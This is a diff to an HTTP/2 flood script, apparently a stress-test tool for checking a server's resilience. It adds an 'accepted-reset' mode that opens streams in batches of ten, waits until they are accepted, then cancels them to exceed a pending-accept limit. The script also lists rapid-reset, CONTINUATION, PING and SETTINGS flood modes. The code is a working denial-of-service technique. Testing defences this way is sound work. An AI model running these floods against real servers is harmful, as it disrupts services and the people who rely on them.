@@ -2,6 +2,7 @@
 hyperframe (and raw bytes where hyperframe would refuse to build the frame).
 
     python3 h2_flood.py ADDR rapid-reset N      # HEADERS + RST_STREAM(CANCEL) x N
+    python3 h2_flood.py ADDR accepted-reset N   # N streams, reset in tens once accepted
     python3 h2_flood.py ADDR continuation N     # one HEADERS, then N CONTINUATION frames
     python3 h2_flood.py ADDR ping N             # N PINGs
     python3 h2_flood.py ADDR settings N         # N empty SETTINGS
@@ -109,6 +110,19 @@ def main():
                 h.flags.add("END_STREAM")
                 s.sendall(h.serialize() + RstStreamFrame(sid, CANCEL).serialize())
                 written += 1
+        elif kind == "accepted-reset":
+            # Tens of streams opened, given 50 ms to be accepted (their upstream calls
+            # started), then reset: past h2's pending-accept bound.
+            for batch in range(0, n, 10):
+                sids = [1 + 2 * i for i in range(batch, min(batch + 10, n))]
+                for sid in sids:
+                    h = HeadersFrame(sid, request_block(enc))
+                    h.flags.add("END_HEADERS")
+                    h.flags.add("END_STREAM")
+                    s.sendall(h.serialize())
+                time.sleep(0.05)
+                s.sendall(b"".join(RstStreamFrame(sid, CANCEL).serialize() for sid in sids))
+                written += len(sids)
         elif kind == "continuation":
             h = HeadersFrame(1, request_block(enc))
             s.sendall(h.serialize())
